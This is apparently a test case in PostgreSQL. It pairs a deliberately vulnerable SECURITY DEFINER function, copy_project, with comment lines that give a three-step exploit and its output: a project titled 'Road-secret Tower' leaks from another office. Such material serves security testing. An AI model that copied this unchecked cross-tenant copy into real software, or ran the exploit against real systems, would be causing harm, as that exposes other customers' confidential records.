-- Copying a project as a template takes it from any office: rows of another office become one's own.
-- about: copy_project, Project, Drawing
-- as: hf_blueprint_app
-- exploit: SET app.current_office = 'off_north';
-- exploit: SELECT copy_project('p2', 'c1');
-- exploit: SELECT 'copied ' || "title" FROM "Project";
-- shows: copied Road-secret Tower
CREATE FUNCTION copy_project(p_id text, p_client text) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE v_new text := gen_random_uuid()::text;
BEGIN
  INSERT INTO "Project" ("officeId", "id", "clientId", "title", "budget")
  SELECT current_office(), v_new, p_client, "title", "budget" FROM "Project" WHERE "id" = p_id;
  INSERT INTO "Drawing" ("officeId", "projectId", "sheet", "fileKey")
  SELECT current_office(), v_new, "sheet", "fileKey" FROM "Drawing" WHERE "projectId" = p_id;
  RETURN v_new;
END $$;
